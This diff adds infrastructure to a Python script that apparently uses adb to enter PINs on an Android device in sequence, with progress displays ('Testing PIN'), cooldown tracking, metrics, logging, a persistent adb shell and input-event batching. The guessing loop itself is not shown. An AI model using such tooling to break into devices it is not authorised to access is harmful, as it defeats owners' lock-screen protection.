@@ -1,190 +1,2250 @@
+import abc
+import argparse
 import os
 import time
+import struct
+import atexit
+import functools
+import gzip
+import json
 import sys
 import re
-from subprocess import run, PIPE, CalledProcessError, STDOUT
+import shlex
+import queue
+import threading
+import uuid
+import zlib
+from collections import OrderedDict, namedtuple
+from subprocess import run, Popen, PIPE, CalledProcessError, CompletedProcess, STDOUT
 from datetime import datetime
-try:
-    from rich.console import Console
-    from rich.progress import Progress, SpinnerColumn, BarColumn, TextColumn, TimeElapsedColumn
-    from rich.panel import Panel
-    from rich.text import Text
-    from rich import print as rprint
-    RICH_AVAILABLE = True
-except ImportError:
-    RICH_AVAILABLE = False
-    print("Installing required packages for better display...")
-    run([sys.executable, "-m", "pip", "install", "rich"], stdout=PIPE, stderr=PIPE)
-    print("Please restart the script for best experience.")
-    sys.exit(1)
-
-# Initialize Rich console
-console = Console()
+
+_rich = None
+
+
+def load_rich():
+    """Import rich on first use; returns the package, or None if it is missing"""
+    global _rich
+    if _rich is None:
+        try:
+            import rich.console
+            import rich.panel
+            import rich.progress
+            _rich = rich
+        except ImportError:
+            _rich = False
+    return _rich or None
+
+
+class _NullStatus:
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc_info):
+        pass
+
+
+class PlainConsole:
+    """Console stand-in for headless runs or when rich is not installed.
+
+    Prints text with Rich markup tags stripped; status spinners are no-ops.
+    """
+
+    MARKUP = re.compile(r'\[/?[a-z][a-z0-9 ._#-]*\]')
+
+    def __init__(self, stderr=False):
+        self.stderr = stderr
+
+    def print(self, text='', style=None, **kwargs):
+        stream = sys.stderr if self.stderr else sys.stdout
+        stream.write(self.MARKUP.sub('', str(text)) + '\n')
+        stream.flush()
+
+    def clear(self):
+        pass
+
+    def status(self, *args, **kwargs):
+        return _NullStatus()
+
+
+def make_console(stderr=False, plain=False):
+    """A Rich console when rich is available (and wanted), else a PlainConsole"""
+    rich = None if plain else load_rich()
+    if rich is None:
+        return PlainConsole(stderr)
+    return rich.console.Console(stderr=stderr)
+
+
+def print_panel(console, text):
+    if isinstance(console, PlainConsole):
+        console.print(text)
+    else:
+        console.print(load_rich().panel.Panel.fit(text))
+
+
+class LatencyHistogram:
+    """HDR-style latency histogram with fixed relative precision.
+
+    Values are recorded in microseconds into log-linear buckets: every power
+    of two is split into `2 ** sub_bucket_bits` linear steps, so bucket width
+    stays within ~1% of the value at the default of 7 bits, from 1 us to hours.
+    """
+
+    def __init__(self, sub_bucket_bits=7):
+        self.sub_bucket_bits = sub_bucket_bits
+        self.counts = {}
+        self.count = 0
+        self.total = 0.0
+        self.min = None
+        self.max = None
+
+    def record(self, seconds):
+        micros = max(int(seconds * 1e6), 0)
+        shift = max(micros.bit_length() - self.sub_bucket_bits - 1, 0)
+        bucket = (micros >> shift) << shift
+        self.counts[bucket] = self.counts.get(bucket, 0) + 1
+        self.count += 1
+        self.total += seconds
+        self.min = seconds if self.min is None else min(self.min, seconds)
+        self.max = seconds if self.max is None else max(self.max, seconds)
+
+    def percentile(self, percent):
+        """Return the latency in seconds at the given percentile (0-100)"""
+        if not self.count:
+            return 0.0
+        target = max(self.count * percent / 100.0, 1)
+        seen = 0
+        for bucket in sorted(self.counts):
+            seen += self.counts[bucket]
+            if seen >= target:
+                return min(bucket / 1e6, self.max)
+        return self.max
+
+    def summary(self):
+        return {
+            'count': self.count,
+            'sum': self.total,
+            'min': self.min or 0.0,
+            'max': self.max or 0.0,
+            'mean': self.total / self.count if self.count else 0.0,
+            'p50': self.percentile(50),
+            'p95': self.percentile(95),
+            'p99': self.percentile(99),
+        }
+
+
+class _Timer:
+    __slots__ = ('metrics', 'name', 'started')
+
+    def __init__(self, metrics, name):
+        self.metrics = metrics
+        self.name = name
+
+    def __enter__(self):
+        self.started = time.perf_counter()
+        return self
+
+    def __exit__(self, *exc_info):
+        self.metrics.observe(self.name, time.perf_counter() - self.started)
+
+
+class _NullTimer:
+    __slots__ = ()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc_info):
+        pass
+
+
+_NULL_TIMER = _NullTimer()
+
+
+class Metrics:
+    """Per-operation latency histograms and counters.
+
+    Disabled instances hand out a shared no-op timer and ignore counter
+    updates, so instrumentation costs next to nothing unless asked for.
+    Snapshots export as JSON and as Prometheus text format, at the end of a
+    run and optionally every `interval` seconds from a background thread.
+    """
+
+    def __init__(self, enabled=False, json_path=None, prometheus_path=None, interval=None):
+        self.enabled = enabled
+        self.json_path = json_path
+        self.prometheus_path = prometheus_path
+        self.interval = interval
+        self.histograms = {}
+        self.counters = {}
+        self.lock = threading.Lock()
+        self.started_at = time.time()
+        self.exporter = None
+        self.exporter_stop = threading.Event()
+
+    def timer(self, name):
+        """Context manager that records the block's duration under name"""
+        if not self.enabled:
+            return _NULL_TIMER
+        return _Timer(self, name)
+
+    def observe(self, name, seconds):
+        if not self.enabled:
+            return
+        with self.lock:
+            histogram = self.histograms.get(name)
+            if histogram is None:
+                histogram = self.histograms[name] = LatencyHistogram()
+            histogram.record(seconds)
+
+    def increment(self, name, amount=1):
+        if not self.enabled:
+            return
+        with self.lock:
+            self.counters[name] = self.counters.get(name, 0) + amount
+
+    def snapshot(self):
+        with self.lock:
+            return {
+                'started_at': self.started_at,
+                'exported_at': time.time(),
+                'operations': {name: histogram.summary()
+                               for name, histogram in sorted(self.histograms.items())},
+                'counters': dict(sorted(self.counters.items())),
+            }
+
+    def prometheus_text(self, snapshot=None):
+        snapshot = snapshot or self.snapshot()
+        lines = ['# TYPE pin_checker_operation_seconds summary']
+        for name, summary in snapshot['operations'].items():
+            for quantile in ('p50', 'p95', 'p99'):
+                lines.append(f'pin_checker_operation_seconds{{operation="{name}",'
+                             f'quantile="0.{quantile[1:]}"}} {summary[quantile]:.6f}')
+            lines.append(f'pin_checker_operation_seconds_sum{{operation="{name}"}} {summary["sum"]:.6f}')
+            lines.append(f'pin_checker_operation_seconds_count{{operation="{name}"}} {summary["count"]}')
+        for name, value in snapshot['counters'].items():
+            lines.append(f'# TYPE pin_checker_{name}_total counter')
+            lines.append(f'pin_checker_{name}_total {value}')
+        return '\n'.join(lines) + '\n'
+
+    @staticmethod
+    def _write_atomic(path, text):
+        temp_path = f"{path}.tmp"
+        with open(temp_path, 'w') as handle:
+            handle.write(text)
+        os.replace(temp_path, path)
+
+    def export(self):
+        """Write the configured JSON and Prometheus files"""
+        if not self.enabled or not (self.json_path or self.prometheus_path):
+            return
+        snapshot = self.snapshot()
+        if self.json_path:
+            self._write_atomic(self.json_path, json.dumps(snapshot, indent=2))
+        if self.prometheus_path:
+            self._write_atomic(self.prometheus_path, self.prometheus_text(snapshot))
+
+    def start_exporter(self):
+        """Export every `interval` seconds until stop_exporter() is called"""
+        if not self.enabled or not self.interval or self.exporter is not None:
+            return
+        self.exporter_stop.clear()
+
+        def loop():
+            while not self.exporter_stop.wait(self.interval):
+                self.export()
+
+        self.exporter = threading.Thread(target=loop, daemon=True)
+        self.exporter.start()
+
+    def stop_exporter(self):
+        """Stop periodic export and write the final snapshot"""
+        if self.exporter is not None:
+            self.exporter_stop.set()
+            self.exporter.join(timeout=2)
+            self.exporter = None
+        self.export()
+
+
+class ProgressState:
+    """Run progress shared between the PIN loop and a renderer thread.
+
+    The loop only assigns attributes and the renderer only reads them;
+    each assignment is atomic, so neither side takes a lock.
+    """
+
+    def __init__(self, total):
+        self.total = total
+        self.completed = 0
+        self.attempts = 0
+        self.current = None
+        self.phase = 'starting'
+        self.cooldown_until = 0.0
+        self.started = time.monotonic()
+        self.result = None
+
+    def sample(self):
+        """Return a consistent-enough dict snapshot of the counters"""
+        now = time.monotonic()
+        elapsed = now - self.started
+        completed = self.completed
+        return {
+            'phase': self.phase,
+            'current': self.current,
+            'completed': completed,
+            'total': self.total,
+            'attempts': self.attempts,
+            'percent': round(100.0 * completed / self.total, 2) if self.total else None,
+            'elapsed': round(elapsed, 3),
+            'rate': round(completed / elapsed, 4) if elapsed > 0 else 0.0,
+            'cooldown_remaining': max(round(self.cooldown_until - now, 1), 0.0),
+            'result': self.result,
+        }
+
+
+class ProgressRenderer(abc.ABC):
+    """Samples a ProgressState at a fixed rate on a daemon thread"""
+
+    def __init__(self, state, interval):
+        self.state = state
+        self.interval = interval
+        self.stopped = threading.Event()
+        self.thread = None
+
+    def start(self):
+        self.stopped.clear()
+        self.thread = threading.Thread(target=self.run, daemon=True)
+        self.thread.start()
+
+    def stop(self):
+        self.stopped.set()
+        if self.thread is not None:
+            self.thread.join(timeout=5)
+            self.thread = None
+
+    @abc.abstractmethod
+    def run(self):
+        """Draw the state until stopped is set, on the renderer thread"""
+
+
+class RichProgressRenderer(ProgressRenderer):
+    """The interactive Rich progress bar, redrawn from samples"""
+
+    def __init__(self, state, console, interval=1.0):
+        super().__init__(state, interval)
+        self.console = console
+
+    def describe(self, sample):
+        if sample['phase'] == 'cooldown':
+            return f"Waiting: {sample['cooldown_remaining']:.0f}s remaining"
+        if sample['current'] is None:
+            return "Testing PINs..."
+        return f"Testing PIN: {sample['current']}"
+
+    def run(self):
+        progress_module = load_rich().progress
+        with progress_module.Progress(
+            progress_module.SpinnerColumn(),
+            progress_module.TextColumn("[progress.description]{task.description}"),
+            progress_module.BarColumn(),
+            progress_module.TextColumn("[progress.percentage]{task.percentage:>3.0f}%"),
+            progress_module.TimeElapsedColumn(),
+            console=self.console,
+            auto_refresh=False
+        ) as progress:
+            task = progress.add_task("Testing PINs...", total=self.state.total)
+            while True:
+                sample = self.state.sample()
+                progress.update(task, completed=sample['completed'],
+                                description=self.describe(sample))
+                progress.refresh()
+                if self.stopped.wait(self.interval):
+                    break
+
+
+class HeadlessRenderer(ProgressRenderer):
+    """Writes one JSON status line per interval, plus a final one on stop"""
+
+    def __init__(self, state, stream=None, interval=10.0):
+        super().__init__(state, interval)
+        self.stream = stream or sys.stdout
+
+    def emit(self):
+        sample = self.state.sample()
+        sample['time'] = time.time()
+        self.stream.write(json.dumps(sample) + '\n')
+        self.stream.flush()
+
+    def run(self):
+        while not self.stopped.wait(self.interval):
+            self.emit()
+        self.emit()
+
+
+def timed(name):
+    """Record a PINChecker method's duration in self.metrics under name"""
+    def decorate(method):
+        @functools.wraps(method)
+        def wrapper(self, *args, **kwargs):
+            with self.metrics.timer(name):
+                return method(self, *args, **kwargs)
+        return wrapper
+    return decorate
+
+
+DEBUG, INFO, WARNING, ERROR = 10, 20, 30, 40
+LOG_LEVELS = {'debug': DEBUG, 'info': INFO, 'warning': WARNING, 'error': ERROR}
+LEVEL_NAMES = {level: name.upper() for name, level in LOG_LEVELS.items()}
+# Levels implied by the Rich styles the log calls already use
+STYLE_LEVELS = {'red': ERROR, 'yellow': WARNING, 'cyan': DEBUG}
+
+LogRecord = namedtuple('LogRecord', ['created', 'level', 'message', 'style'])
+
+
+class ConsoleLogSink:
+    """Writes records to a Rich console, as `log` always has"""
+
+    def __init__(self, console):
+        self.console = console
+
+    def write(self, record):
+        timestamp = datetime.fromtimestamp(record.created).strftime("%H:%M:%S")
+        prefix = "[DEBUG] " if record.level == DEBUG else ""
+        self.console.print(f"[dim]{timestamp}[/dim] {prefix}{record.message}", style=record.style)
+
+    def flush(self):
+        pass
+
+    def close(self):
+        pass
+
+
+class JsonLinesLogSink:
+    """Appends one JSON object per record to a plain file"""
+
+    def __init__(self, path):
+        self.handle = open(path, 'a')
+
+    def write(self, record):
+        self.handle.write(json.dumps({
+            'time': record.created,
+            'level': LEVEL_NAMES.get(record.level, str(record.level)),
+            'message': record.message,
+        }) + '\n')
+
+    def flush(self):
+        self.handle.flush()
+
+    def close(self):
+        self.handle.close()
+
+
+class AsyncLogger:
+    """Level-filtered logger that formats and writes on a background thread.
+
+    Records below `level` are dropped before any formatting happens, and a
+    message may be a callable that is only invoked by the writer thread.
+    The queue is bounded: when it is full, DEBUG and INFO records are
+    dropped (and counted) rather than stalling device I/O, while warnings
+    and errors wait for room.
+    """
+
+    def __init__(self, sinks, level=INFO, max_queue=1024):
+        self.sinks = list(sinks)
+        self.level = level
+        self.records = queue.Queue(maxsize=max_queue)
+        self.dropped = 0
+        self.writer = threading.Thread(target=self._write_records, daemon=True)
+        self.writer.start()
+        atexit.register(self.close)
+
+    def enabled_for(self, level):
+        return level >= self.level
+
+    def log(self, level, message, style=""):
+        if level < self.level or self.writer is None:
+            return
+        record = LogRecord(time.time(), level, message, style)
+        try:
+            if level >= WARNING:
+                self.records.put(record, timeout=1)
+            else:
+                self.records.put_nowait(record)
+        except queue.Full:
+            self.dropped += 1
+
+    def _write_records(self):
+        while True:
+            record = self.records.get()
+            try:
+                if record is None:
+                    return
+                message = record.message() if callable(record.message) else record.message
+                record = record._replace(message=str(message))
+                for sink in self.sinks:
+                    sink.write(record)
+                if self.records.empty():
+                    for sink in self.sinks:
+                        sink.flush()
+            except Exception:
+                pass  # a broken sink must never take the checker down
+            finally:
+                self.records.task_done()
+
+    def flush(self):
+        """Block until every queued record has been written"""
+        if self.writer is not None:
+            self.records.join()
+
+    def close(self):
+        if self.writer is None:
+            return
+        atexit.unregister(self.close)
+        self.records.put(None)
+        self.writer.join(timeout=5)
+        self.writer = None
+        for sink in self.sinks:
+            sink.flush()
+            sink.close()
+
+
+class ShellSessionError(Exception):
+    """Raised when the persistent ADB shell session is unusable"""
+
+    def __init__(self, message, sent=False):
+        super().__init__(message)
+        self.sent = sent  # whether the command may already have run
+
+
+class AdbShellSession:
+    """A long-lived `adb shell` kept open over pipes.
+
+    Commands are written to the shell's stdin, each followed by a sentinel
+    line carrying a per-session token and the command's exit code, so one
+    device shell serves every command instead of forking adb per call.
+    """
+
+    def __init__(self, argv=None, timeout=30, env=None, metrics=None):
+        self.argv = argv or ['adb', 'shell']
+        self.timeout = timeout
+        self.env = env
+        self.metrics = metrics or Metrics()
+        self.marker = f"__PINCHECKER_{uuid.uuid4().hex}__"
+        self.process = None
+        self.lines = None
+        self.lock = threading.Lock()
+
+    def start(self):
+        """Spawn the shell process and its stdout reader thread"""
+        self.close()
+        self.metrics.increment('subprocess_spawns')
+        self.process = Popen(self.argv, stdin=PIPE, stdout=PIPE, stderr=STDOUT, env=self.env)
+        self.lines = queue.Queue()
+        reader = threading.Thread(target=self._read_output,
+                                  args=(self.process.stdout, self.lines), daemon=True)
+        reader.start()
+
+    def _read_output(self, stream, lines):
+        for line in iter(stream.readline, b''):
+            lines.put(line)
+        lines.put(None)  # EOF: the shell went away
+
+    def is_alive(self):
+        return self.process is not None and self.process.poll() is None
+
+    def close(self):
+        """Terminate the shell process if it is running"""
+        if self.process is None:
+            return
+        try:
+            self.process.stdin.close()
+        except OSError:
+            pass
+        if self.process.poll() is None:
+            self.process.terminate()
+            try:
+                self.process.wait(timeout=2)
+            except Exception:
+                self.process.kill()
+        self.process = None
+
+    def execute(self, command, timeout=None):
+        """Run a shell command string, returning (returncode, output).
+
+        A dead session is restarted and the command retried once, unless the
+        command was already sent, in which case the session is restarted on
+        the next call so input events are never replayed twice.
+        """
+        with self.lock:
+            try:
+                return self._execute(command, timeout)
+            except ShellSessionError as e:
+                if e.sent:
+                    self.close()
+                    raise
+                self.start()
+                return self._execute(command, timeout)
+
+    def _execute(self, command, timeout):
+        if not self.is_alive():
+            raise ShellSessionError("shell session is not running")
+        # stdin comes from /dev/null so a command cannot swallow the ones queued
+        # after it; the leading echo puts the sentinel on a line of its own
+        script = (f"( {command} ) </dev/null 2>&1; __rc=$?; echo; "
+                  f"echo {self.marker} $__rc\n")
+        try:
+            self.process.stdin.write(script.encode())
+            self.process.stdin.flush()
+        except (BrokenPipeError, OSError) as e:
+            raise ShellSessionError(f"could not write to shell: {e}")
+
+        deadline = time.monotonic() + (timeout or self.timeout)
+        marker = self.marker.encode()
+        output = []
+        while True:
+            remaining = deadline - time.monotonic()
+            try:
+                line = self.lines.get(timeout=max(remaining, 0))
+            except queue.Empty:
+                raise ShellSessionError(f"timed out waiting for: {command}", sent=True)
+            if line is None:
+                raise ShellSessionError("shell session closed unexpectedly", sent=True)
+            if line.startswith(marker):
+                returncode = int(line[len(marker):].strip() or 1)
+                break
+            output.append(line)
+
+        # Drop the newline added by the separator echo
+        data = b''.join(output)
+        if data.endswith(b'\n'):
+            data = data[:-1]
+        self.metrics.increment('bytes_read', len(data))
+        return returncode, data.decode(errors='replace')
+
+
+class SubprocessShell:
+    """Runs every command as its own `adb shell` process (the original path)"""
+
+    def __init__(self, argv=None, timeout=30, env=None, metrics=None):
+        self.argv = argv or ['adb', 'shell']
+        self.timeout = timeout
+        self.env = env
+        self.metrics = metrics or Metrics()
+
+    def start(self):
+        pass
+
+    def is_alive(self):
+        return True
+
+    def close(self):
+        pass
+
+    def execute(self, command, timeout=None):
+        self.metrics.increment('subprocess_spawns')
+        result = run(self.argv + [command], stdout=PIPE, stderr=STDOUT,
+                     timeout=timeout or self.timeout, env=self.env)
+        self.metrics.increment('bytes_read', len(result.stdout))
+        return result.returncode, result.stdout.decode(errors='replace')
+
+
+class AdbProtocolError(Exception):
+    """Raised when the adb server refuses a request or breaks the protocol"""
+
+
+class EventLoopThread:
+    """An asyncio event loop running in a daemon thread, for sync callers"""
+
+    def __init__(self):
+        import asyncio
+        self.loop = asyncio.new_event_loop()
+        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
+        self.thread.start()
+
+    def call(self, coro, timeout=None):
+        """Run a coroutine on the loop and wait for its result"""
+        import asyncio
+        import concurrent.futures
+        future = asyncio.run_coroutine_threadsafe(coro, self.loop)
+        try:
+            return future.result(timeout)
+        except concurrent.futures.TimeoutError:
+            future.cancel()
+            raise
+
+    def stop(self):
+        self.loop.call_soon_threadsafe(self.loop.stop)
+        self.thread.join(timeout=2)
+
+
+# shell,v2 packet ids, see adb's shell_protocol.h
+SHELL_STDIN, SHELL_STDOUT, SHELL_STDERR, SHELL_EXIT, SHELL_CLOSE_STDIN = range(5)
+V1_EXIT_MARKER = '__PINCHECKER_EXIT__'
+
+
+class AdbProtocolClient:
+    """Asyncio client for the adb server's smart-socket protocol.
+
+    Talks to the local adb server (port 5037 by default) directly, so no
+    `adb` process is spawned per request.
+    """
+
+    def __init__(self, host='127.0.0.1', port=5037, serial=None):
+        self.host = host
+        self.port = port
+        self.serial = serial
+        self.shell_v2 = None  # unknown until the first shell request
+
+    async def _connect(self):
+        import asyncio
+        return await asyncio.open_connection(self.host, self.port)
+
+    async def _request(self, reader, writer, service):
+        """Send a service request and wait for OKAY, raising on FAIL"""
+        data = service.encode()
+        writer.write(b'%04x' % len(data) + data)
+        await writer.drain()
+        status = await reader.readexactly(4)
+        if status == b'OKAY':
+            return
+        if status == b'FAIL':
+            message = await self._read_payload(reader)
+            raise AdbProtocolError(f"{service}: {message.decode(errors='replace')}")
+        raise AdbProtocolError(f"{service}: unexpected status {status!r}")
+
+    async def _read_payload(self, reader):
+        length = int(await reader.readexactly(4), 16)
+        return await reader.readexactly(length)
+
+    @staticmethod
+    def parse_devices(payload):
+        """Parse a host:devices payload into [(serial, state), ...]"""
+        devices = []
+        for line in payload.decode(errors='replace').splitlines():
+            parts = line.split('\t')
+            if len(parts) >= 2:
+                devices.append((parts[0], parts[1]))
+        return devices
+
+    async def devices(self):
+        """Return the connected devices as [(serial, state), ...]"""
+        reader, writer = await self._connect()
+        try:
+            await self._request(reader, writer, 'host:devices')
+            return self.parse_devices(await self._read_payload(reader))
+        finally:
+            writer.close()
+
+    async def track_devices(self):
+        """Yield the full device list every time the server reports a change"""
+        import asyncio
+        reader, writer = await self._connect()
+        try:
+            await self._request(reader, writer, 'host:track-devices')
+            while True:
+                yield self.parse_devices(await self._read_payload(reader))
+        except asyncio.IncompleteReadError:
+            return
+        finally:
+            writer.close()
+
+    async def _open_transport(self):
+        reader, writer = await self._connect()
+        target = f'host:transport:{self.serial}' if self.serial else 'host:transport-any'
+        try:
+            await self._request(reader, writer, target)
+        except Exception:
+            writer.close()
+            raise
+        return reader, writer
+
+    async def _open_shell(self, command):
+        """Open a shell stream, preferring shell,v2 and falling back to shell:"""
+        if self.shell_v2 is not False:
+            reader, writer = await self._open_transport()
+            try:
+                await self._request(reader, writer, f'shell,v2,raw:{command}')
+                self.shell_v2 = True
+                return reader, writer, True
+            except AdbProtocolError:
+                writer.close()
+                if self.shell_v2:
+                    raise
+                self.shell_v2 = False
+        # shell: has no exit status, so carry it in a trailing marker line
+        reader, writer = await self._open_transport()
+        await self._request(reader, writer,
+                            f'shell:( {command} ); __rc=$?; echo; echo {V1_EXIT_MARKER}$__rc')
+        return reader, writer, False
+
+    async def shell_stream(self, command):
+        """Yield (packet_id, bytes) chunks of a shell command's output.
+
+        The exit code arrives as a final SHELL_EXIT chunk. Callers may stop
+        iterating early, which closes the stream on the device.
+        """
+        import asyncio
+        reader, writer, v2 = await self._open_shell(command)
+        try:
+            if v2:
+                writer.write(struct.pack('<BI', SHELL_CLOSE_STDIN, 0))
+                await writer.drain()
+                while True:
+                    try:
+                        header = await reader.readexactly(5)
+                    except asyncio.IncompleteReadError:
+                        return
+                    packet_id, length = struct.unpack('<BI', header)
+                    data = await reader.readexactly(length)
+                    yield packet_id, data
+                    if packet_id == SHELL_EXIT:
+                        return
+            else:
+                tail = b''
+                while True:
+                    data = await reader.read(65536)
+                    if not data:
+                        break
+                    tail += data
+                    # Hold back enough bytes to contain the exit marker line
+                    if len(tail) > 128:
+                        yield SHELL_STDOUT, tail[:-128]
+                        tail = tail[-128:]
+                body, found, code = tail.rpartition(b'\n' + V1_EXIT_MARKER.encode())
+                if not found:
+                    yield SHELL_STDOUT, tail
+                    yield SHELL_EXIT, b'\xff'
+                    return
+                yield SHELL_STDOUT, body
+                yield SHELL_EXIT, bytes([int(code.strip() or 255) & 0xff])
+        finally:
+            writer.close()
+
+    async def shell(self, command):
+        """Run a shell command, returning (returncode, stdout, stderr) bytes"""
+        stdout, stderr, returncode = [], [], 255
+        async for packet_id, data in self.shell_stream(command):
+            if packet_id == SHELL_STDOUT:
+                stdout.append(data)
+            elif packet_id == SHELL_STDERR:
+                stderr.append(data)
+            elif packet_id == SHELL_EXIT:
+                returncode = data[0] if data else 255
+        return returncode, b''.join(stdout), b''.join(stderr)
+
+
+class NativeAdbSession:
+    """Sync adapter that gives AdbProtocolClient the shell-session interface"""
+
+    def __init__(self, host='127.0.0.1', port=5037, serial=None, timeout=30, metrics=None):
+        self.client = AdbProtocolClient(host, port, serial)
+        self.timeout = timeout
+        self.metrics = metrics or Metrics()
+        self.runner = None
+
+    def start(self):
+        if self.runner is None:
+            self.runner = EventLoopThread()
+
+    def is_alive(self):
+        return self.runner is not None
+
+    def close(self):
+        if self.runner is not None:
+            self.runner.stop()
+            self.runner = None
+
+    def execute(self, command, timeout=None):
+        import asyncio
+        import concurrent.futures
+        self.start()
+        try:
+            returncode, stdout, stderr = self.runner.call(
+                self.client.shell(command), timeout or self.timeout)
+        except (OSError, asyncio.IncompleteReadError, AdbProtocolError,
+                concurrent.futures.TimeoutError) as e:
+            raise ShellSessionError(f"adb server request failed: {e}", sent=True)
+        self.metrics.increment('bytes_read', len(stdout) + len(stderr))
+        return returncode, (stdout + stderr).decode(errors='replace')
+
+
+def quote_command(args):
+    """Join args into one shell command line, quoting each as needed"""
+    return ' '.join(shlex.quote(str(arg)) for arg in args)
+
+
+BatchResult = namedtuple('BatchResult', ['returncode', 'changed'])
+
+
+class SettingsBatch:
+    """Coalesces device settings writes into a single shell script.
+
+    Writes are keyed by their target, so a later write to the same setting
+    or property replaces the earlier one. Each write is guarded by a read
+    of the current value and skipped when nothing would change.
+
+    restart=True marks writes that need an adb server restart to take
+    effect; disconnects=True marks writes that switch the USB functions and
+    so may drop the shell that runs them.
+    """
+
+    MARKER = '__PINCHECKER_BATCH__'
+
+    def __init__(self):
+        self.ops = OrderedDict()
+
+    def _add(self, key, apply, probe=None, expected=None, restart=False, disconnects=False):
+        self.ops.pop(key, None)  # re-adding moves the write to the end
+        self.ops[key] = (apply, probe, expected, restart, disconnects)
+
+    def put_setting(self, namespace, name, value, restart=False):
+        """Queue `settings put <namespace> <name> <value>`"""
+        value = str(value)
+        self._add(f"{namespace}/{name}", ['settings', 'put', namespace, name, value],
+                  ['settings', 'get', namespace, name], value, restart)
+
+    def set_prop(self, name, value, restart=False, disconnects=False):
+        """Queue `setprop <name> <value>`"""
+        value = str(value)
+        self._add(f"prop/{name}", ['setprop', name, value], ['getprop', name], value,
+                  restart, disconnects)
+
+    def command(self, key, args, probe=None, expected=None, restart=False, disconnects=False):
+        """Queue an arbitrary command, optionally guarded by a probe command"""
+        self._add(key, list(args), probe, None if expected is None else str(expected),
+                  restart, disconnects)
+
+    def __len__(self):
+        return len(self.ops)
+
+    def script(self, disconnects=None):
+        """Render the queued writes as one shell script.
+
+        Writes that may drop the shell come last; pass disconnects=False or
+        True to render only the other writes or only those.
+        """
+        ops = list(enumerate(self.ops.values()))
+        ops.sort(key=lambda op: op[1][4])  # stable: queue order within each group
+        lines = []
+        for index, (apply, probe, expected, _, flagged) in ops:
+            if disconnects is not None and flagged != disconnects:
+                continue
+            write = (f"{quote_command(apply)} >/dev/null 2>&1; "
+                     f"echo {self.MARKER} {index} $? 1")
+            if probe is None:
+                lines.append(write)
+            else:
+                lines.append(f"if [ \"$({quote_command(probe)} 2>/dev/null)\" = {shlex.quote(expected)} ]; "
+                             f"then echo {self.MARKER} {index} 0 0; else {write}; fi")
+        return '\n'.join(lines)
+
+    def parse(self, output, disconnected=False):
+        """Map each queued key to its BatchResult; missing keys did not run.
+
+        With disconnected=True the shell dropped while running the writes
+        marked disconnects=True, which is what a USB re-enumeration looks
+        like: those that did not report are taken as applied,
+        BatchResult(None, True).
+        """
+        keys = list(self.ops)
+        results = OrderedDict((key, BatchResult(None, False)) for key in keys)
+        if disconnected:
+            for key, op in self.ops.items():
+                if op[4]:
+                    results[key] = BatchResult(None, True)
+        for line in output.splitlines():
+            parts = line.split()
+            if len(parts) == 4 and parts[0] == self.MARKER:
+                key = keys[int(parts[1])]
+                results[key] = BatchResult(int(parts[2]), parts[3] == '1')
+        return results
+
+    def needs_restart(self, results):
+        """True if a write flagged as needing an adb restart changed anything"""
+        return any(self.ops[key][3] and result.changed and result.returncode in (0, None)
+                   for key, result in results.items())
+
+
+InputTiming = namedtuple('InputTiming', ['steps', 'device_delay', 'round_trips',
+                                         'elapsed', 'acknowledged'])
+
+
+class InputSequence:
+    """Compiles key events, gestures and delays into one device-side script.
+
+    Steps are chained with `&&` so a failed injection stops the rest, and
+    delays become `sleep` on the device instead of host-side pauses between
+    round trips. The script ends by echoing ACK, which is the single
+    completion acknowledgement the host waits for.
+    """
+
+    ACK = '__PINCHECKER_INPUT_DONE__'
+
+    def __init__(self):
+        self.steps = []
+
+    def key(self, *keycodes):
+        """Queue one `input keyevent` per keycode"""
+        for keycode in keycodes:
+            self.steps.append(['input', 'keyevent', str(keycode)])
+        return self
+
+    def swipe(self, x1, y1, x2, y2, duration=100):
+        """Queue `input swipe` with a duration in milliseconds"""
+        self.steps.append(['input', 'swipe', x1, y1, x2, y2, duration])
+        return self
+
+    def tap(self, x, y):
+        self.steps.append(['input', 'tap', x, y])
+        return self
+
+    def delay(self, seconds):
+        """Queue a device-side sleep"""
+        if seconds > 0:
+            self.steps.append(['sleep', f"{seconds:g}"])
+        return self
+
+    def __len__(self):
+        return len(self.steps)
+
+    def events(self):
+        return sum(1 for step in self.steps if step[0] == 'input')
+
+    def device_delay(self):
+        """Total seconds the device will spend sleeping"""
+        return sum(float(step[1]) for step in self.steps if step[0] == 'sleep')
+
+    def script(self):
+        """Render the sequence as one shell command line"""
+        return ' && '.join([quote_command(step) for step in self.steps] + [f"echo {self.ACK}"])
+
+
+class DeviceTracker:
+    """Keeps adb's device list current from a streaming track-devices channel.
+
+    A background thread follows either `adb track-devices` or, given an
+    AdbProtocolClient, the host:track-devices service. Every update is
+    published under a condition so waiters wake the moment a device
+    changes state (e.g. unauthorized -> device -> offline).
+    """
+
+    def __init__(self, client=None, argv=None, retry_delay=0.5, metrics=None):
+        self.client = client
+        self.argv = argv or ['adb', 'track-devices']
+        self.retry_delay = retry_delay
+        self.metrics = metrics or Metrics()
+        self.devices = {}
+        self.version = 0  # bumped on every update, including disconnects
+        self.connected = False  # whether the current list came from a server
+        self.connections = 0  # bumped on the first list of each server connection
+        self.attempts = 0  # bumped whenever a connection attempt ends
+        self.listeners = []
+        self.condition = threading.Condition()
+        self.stopped = threading.Event()
+        self.process = None
+        self.thread = None
+
+    def start(self, timeout=5):
+        """Start tracking; returns True once a server sent its device list.
+
+        Returns False on timeout, or as soon as a connection attempt made
+        after this call fails.
+        """
+        with self.condition:
+            attempts = self.attempts
+        if self.thread is None or not self.thread.is_alive():
+            self.stopped.clear()
+            self.thread = threading.Thread(target=self._run, daemon=True)
+            self.thread.start()
+        with self.condition:
+            self.condition.wait_for(
+                lambda: self.connected or self.attempts > attempts, timeout)
+            return self.connected
+
+    def stop(self):
+        self.stopped.set()
+        if self.process is not None and self.process.poll() is None:
+            self.process.terminate()
+
+    def add_listener(self, callback):
+        """Call callback(devices) from the tracker thread after every update"""
+        self.listeners.append(callback)
+
+    def snapshot(self):
+        with self.condition:
+            return dict(self.devices)
+
+    def wait_for(self, predicate, timeout=None, min_version=0, min_connections=0):
+        """Block until predicate(devices) holds; returns False on timeout.
+
+        min_connections makes it also wait for that many server connections,
+        e.g. one more than before a restart to ignore the old server's list.
+        """
+        with self.condition:
+            return self.condition.wait_for(
+                lambda: (self.version >= min_version and self.connections >= min_connections
+                         and predicate(self.devices)), timeout)
+
+    def wait_for_state(self, state, timeout=None, serial=None):
+        """Wait until a device (or the given serial) reaches state"""
+        def reached(devices):
+            if serial is not None:
+                return devices.get(serial) == state
+            return state in devices.values()
+        return self.wait_for(reached, timeout)
+
